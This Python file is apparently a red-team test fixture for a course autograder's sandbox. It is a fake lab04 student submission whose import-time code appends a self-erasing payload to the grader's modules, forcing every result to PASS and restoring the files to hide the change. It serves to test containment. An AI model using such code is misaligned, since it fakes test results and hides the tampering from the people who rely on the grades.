"""Attack: poison the modules the grader may import after the student's code has run.

At import, every Python file of the course's ``grader/`` and ``framework/`` packages gets a
payload appended that runs only in the grader's own process (the pid it finds among its
ancestors): it writes a marker file and makes every report line a PASS, then puts the
file's original text back, so that nothing shows afterwards. Contained: the grader imports
everything it needs before the first call into student code, so the payload never runs in
it (under bubblewrap the course is read-only besides).
"""
# verify: contained
# grade: contained

import os

import framework

_PAYLOAD = """

def _minillm_poison():
    import os as _os
    if _os.getpid() not in {GRADERS!r}:
        return
    with open({MARKER!r}, "a") as _f:
        _f.write(__name__ + "\\n")
    with open(__file__, "w") as _f:
        _f.write({ORIGINAL!r})
    try:
        from grader import results as _r
        _r.LabResult.passed = property(lambda self: True)
        _r.Status.TODO = _r.Status.PASS
    except Exception:
        pass


_minillm_poison()
"""


def _graders():
    pid, found = os.getpid(), []
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read().split(b"\0")
        except OSError:
            break
        if b"grader.sandbox.zygote" not in b" ".join(cmd):
            found.append(pid)
    return found


def _poison():
    root = os.path.dirname(os.path.dirname(os.path.abspath(framework.__file__)))
    marker = os.path.join(root, "POISONED")
    graders = set(_graders())
    for package in ("grader", "framework"):
        for here, _, files in os.walk(os.path.join(root, package)):
            for name in files:
                if not name.endswith(".py"):
                    continue
                path = os.path.join(here, name)
                try:
                    with open(path) as f:
                        original = f.read()
                    with open(path, "a") as f:
                        f.write(
                            _PAYLOAD.replace("{GRADERS!r}", repr(graders))
                            .replace("{MARKER!r}", repr(marker))
                            .replace("{ORIGINAL!r}", repr(original))
                        )
                except OSError:
                    pass


_poison()


def attention_scores(q, k, scale):
    raise NotImplementedError("lab04: implement attention_scores")


def apply_mask(scores, mask):
    raise NotImplementedError("lab04: implement apply_mask")


def softmax(x):
    raise NotImplementedError("lab04: implement softmax")
